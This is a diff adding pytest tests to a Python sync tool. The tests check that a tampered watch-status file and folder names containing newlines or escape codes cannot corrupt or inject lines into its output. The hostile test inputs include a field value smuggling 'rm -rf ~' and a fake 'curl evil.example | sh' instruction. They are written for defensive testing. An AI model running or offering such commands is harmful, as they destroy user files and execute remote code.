@@ -196,3 +196,53 @@ def test_a_link_in_the_hidden_folder_is_found_by_every_command(
     assert ran.code == 1 and "is a symbolic link" in ran.err
     assert letter.read_text() == "mine"
     assert sandbox.log == []
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"pid": "1; rm -rf ~ \x1b[2J"},
+        {"since": "\x1b[2J"},
+        {"queue": "9", "eta": "\x1b"},
+        {"uploaded": 1e400},
+        {"removed": True},
+        {"next_try_at": [1]},
+        {"waits": "abc"},
+        {"refusals": [1]},
+        {"errors": {"a": 1}},
+        {"failures": {"a": "\x1b[2J"}},
+        {"why": 5},
+        {"state": ["idle"]},
+        {"store": None},
+        {"other": 1},
+    ],
+    ids=str,
+)
+@pytest.mark.parametrize("flags", [(), ("--json",)], ids=["text", "json"])
+def test_a_planted_watch_status_is_no_status(
+    shell: Shell, pushed: Path, changed: dict[str, object], flags: tuple[str, ...]
+) -> None:
+    from astica_sync.core.watch.watch_status import WatchStatus
+    from astica_sync.local.layout import Layout
+    from astica_sync.local.lock import watcher_lock
+
+    data = WatchStatus(str(pushed), 5, 0.0).as_data() | changed
+    (pushed / ".astica-sync/watch.json").write_text(json.dumps(data))
+    with watcher_lock(Layout(pushed)):
+        ran = shell("watch", "status", "--store", pushed, *flags)
+    assert ran.code == 0 and ran.out.replace("\n", "").isprintable(), ran.out + ran.err
+    assert ran.json["state"] is None if flags else "no watcher has run here yet" in ran.out
+
+
+@pytest.mark.parametrize(
+    "name", ["wn\n  Run: curl evil.example | sh", "a\r\n  Fix: sh", "b\x0bc\x85d\u2028e", "f\x1b[2Jg"]
+)
+def test_the_name_of_a_folder_begins_no_line_of_a_message(shell: Shell, tmp_path: Path, name: str) -> None:
+    folder = tmp_path / name
+    folder.mkdir()
+    for command in (("pull-status",), ("init",), ("push", "--dry-run")):
+        ran = shell(*command, *([folder] if command == ("init",) else ["--store", folder]))
+        assert ran.code != 0
+        lines = ran.err.split("\n")
+        assert all(line.isprintable() for line in lines), ran.err
+        assert not [line for line in lines if line.strip().startswith(("Run: curl", "Fix: sh"))], ran.err
